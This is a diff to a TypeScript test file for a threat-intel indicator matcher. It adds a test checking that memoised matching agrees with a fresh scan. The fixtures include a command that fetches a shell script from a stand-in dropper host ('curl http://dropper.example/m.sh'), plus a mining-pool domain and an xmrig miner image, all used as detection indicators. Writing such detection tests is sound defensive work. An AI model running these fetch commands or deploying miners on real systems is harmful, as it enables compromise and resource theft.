@@ -1,5 +1,5 @@
 import { IndicatorSet, type Indicator } from './indicator-set';
-import { matchIntel, observablesInText } from './intel-matcher';
+import { DIGEST_FIELDS, HASH_FIELDS, IMAGE_FIELDS, matchIntel, observablesInText, TEXT_FIELDS } from './intel-matcher';
 import { normalizeImage, normalizeUrl } from './normalize';
 import { PrefixTable } from './prefix-table';
 import { parseIndicatorCsv, parseIndicatorList, parseStixBundle, typeFromFileName } from './parse-indicators';
@@ -255,6 +255,66 @@ describe('remembered answers', () => {
     for (let i = 0; i < 5000; i++)
       expect(matchIntel(ev(`echo ${i}.example`, `img-${i}`, `fromImage=img-${i}`), set)).toEqual([]);
     for (const e of events) expect(matchIntel(e, set)).toEqual(fresh(e));
+  });
+
+  it('answer as a fresh scan does for events repeating values in any field read, one field apart or more', () => {
+    const inds: [Indicator['type'], string][] = [
+      ['ip', '203.0.113.7'],
+      ['domain', 'pool.example'],
+      ['url', 'http://dropper.example/m.sh'],
+      ['image', 'miner-example/xmrig'],
+      ['digest', `sha256:${'a'.repeat(64)}`],
+      ['hash', 'b'.repeat(64)],
+    ];
+    const set = setOf(...inds);
+    const pool = [
+      '203.0.113.7',
+      '198.51.100.1',
+      'curl http://dropper.example/m.sh',
+      'ping a.pool.example',
+      'miner-example/xmrig:latest',
+      'fromImage=miner-example%2Fxmrig',
+      `sha256:${'a'.repeat(64)}`,
+      'b'.repeat(64),
+      'alpine',
+      ['x', 'http://dropper.example/m.sh'],
+    ];
+    // every field matchIntel reads (its readers' lists): the memo's walk must cover each
+    const read = ['source.ip', 'url.query', ...TEXT_FIELDS, ...IMAGE_FIELDS, ...DIGEST_FIELDS, ...HASH_FIELDS];
+    let x = 7;
+    const rnd = (n: number): number => ((x = (x * 1103515245 + 12345) & 0x7fffffff), x % n);
+    const put = (e: Record<string, unknown>, field: string, v: unknown): void => {
+      const path = field.split('.');
+      let o = e;
+      for (const seg of path.slice(0, -1)) o = (o[seg] ??= {}) as Record<string, unknown>;
+      o[path[path.length - 1] as string] = v;
+    };
+    // a few base events, each varied in one field at a time: events one field apart share every
+    // other value, so a memo that left a field out of its key would answer one with the other's hits
+    const bases = Array.from({ length: 4 }, () => {
+      const e: Record<string, unknown> = {};
+      for (let k = 0; k < 2; k++) put(e, read[rnd(read.length)] as string, pool[rnd(pool.length)]);
+      return e;
+    });
+    // every field with every value, after a first pass that fills the memo
+    const shapes = bases.flatMap((b) =>
+      read.flatMap((f) =>
+        pool.map((v) => {
+          const e = structuredClone(b);
+          put(e, f, v);
+          return e;
+        }),
+      ),
+    );
+    let hits = 0;
+    for (const pass of [0, 1])
+      for (const shape of shapes) {
+        const e = structuredClone(shape);
+        const got = matchIntel(e, set);
+        if (pass === 1) hits += got.length;
+        expect({ e, got }).toEqual({ e, got: matchIntel(e, setOf(...inds)) });
+      }
+    expect(hits).toBeGreaterThan(100);
   });
 
   it('follow indicators added after a match', () => {
